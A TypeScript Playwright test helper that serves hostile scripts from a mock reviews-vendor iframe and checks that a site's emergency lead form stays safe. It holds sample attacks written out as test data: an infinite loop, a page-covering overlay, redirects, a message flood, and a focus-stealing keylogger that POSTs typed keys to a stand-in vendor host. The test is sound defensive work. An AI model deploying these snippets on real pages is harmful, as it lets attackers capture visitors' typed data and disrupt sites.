import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import type { OpenPage } from './browser.ts';
import { awake, formOf, type Product, submit } from './product.ts';
import { type Asked, mayAsk, serveVendor, theFrame } from './reviews-vendor.ts';

export const hostile = {
  'loops without end': `setTimeout(() => { for (;;); }, 50);`,
  'covers the whole page': `
    const cover = document.createElement('div');
    cover.style = 'position:fixed; inset:-5000px; z-index:2147483647; background:red; height:100000px; width:100000px';
    document.body.append(cover);
    document.documentElement.style = 'height:100000px; width:100000px';`,
  'leads its own frame elsewhere': `
    setTimeout(() => { location = 'https://api.vendor.example/elsewhere'; }, 300);
    setTimeout(() => { location = '/'; }, 600);`,
  'floods the page with messages': `setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage(i, '*'); }, 1);`,
  'takes the focus': `
    const field = document.createElement('textarea');
    field.autofocus = true;
    document.body.append(field);
    addEventListener('keydown', ({ key }) => report(key), true);
    field.addEventListener('input', () => report(field.value));
    every(() => { window.focus(); field.focus(); });`,
  'scrolls the page to itself': `every(() => document.body.scrollIntoView({ block: 'center' }));`,
};

export type Deed = keyof typeof hostile;

const prelude = `
  const send = window.fetch.bind(window);
  const report = (text) => send('https://api.vendor.example/report', { method: 'POST', mode: 'no-cors', body: String(text) }).catch(() => {});
  const every = (act) => setInterval(() => { try { act(); } catch {} }, 10);
  report('it runs');`;

const lead = { Name: 'Zyxwvut', Phone: '314-555-0177' };

const keysIn = (asked: Asked) =>
  asked
    .map((line) => line.split('/report ')[1] ?? '')
    .filter((text) => text !== 'it runs' && /[Zyxwvut\d-]/.test(text));

/** By hand, key by key, as a visitor would. @param beforeKeys comes between the press on a field and the first key */
async function sendLead(page: Page, beforeKeys: () => Promise<void>): Promise<void> {
  const form = formOf(page, 'emergency');
  for (let turn = 0; turn < 12; turn += 1) await page.mouse.wheel(0, -200);
  await awake(form);
  for (const [label, value] of Object.entries(lead)) {
    await form.getByLabel(label).click();
    await beforeKeys();
    await page.keyboard.type(value, { delay: 20 });
    expect(await form.getByLabel(label).inputValue()).toBe(value);
  }
  await form.getByLabel('Service').selectOption({ label: 'Other Emergency' });
  await submit(form);
}

export async function expectSafeFrom(
  deeds: readonly Deed[],
  { product, open }: { product: Product; open: OpenPage },
): Promise<void> {
  const asked: Asked = [];
  const scripts = deeds.map((deed) => `{ ${hostile[deed]} }`);
  const page = await open('/', {
    mayAsk,
    reducedMotion: 'reduce',
    expectErrors: /.*/,
    before: async (page) => {
      await serveVendor(page, [prelude, ...scripts].join('\n'), asked);
      await page.goto(`${product.origin()}/about`);
    },
  });
  const leftFor: string[] = [];
  page.on('framenavigated', (frame) => frame === page.mainFrame() && leftFor.push(frame.url()));
  // Not until the frame is seen: one that floods the page may be removed before.
  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
  await expect.poll(() => asked.join()).toContain('it runs');
  await sendLead(page, async () => {
    // It has the focus for some milliseconds, until it is removed for that. No hand is on a key so soon after a press; a program is.
    if (deeds.includes('takes the focus')) await theFrame(page).waitFor({ state: 'detached' });
  });
  expect(await product.rows()).toMatchObject([{ name: lead.Name, phone: '+13145550177' }]);
  expect(leftFor).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(keysIn(asked)).toEqual([]);
  for (const frame of await theFrame(page).all())
    expect((await frame.boundingBox())?.height).toBeLessThanOrEqual(4000);
}
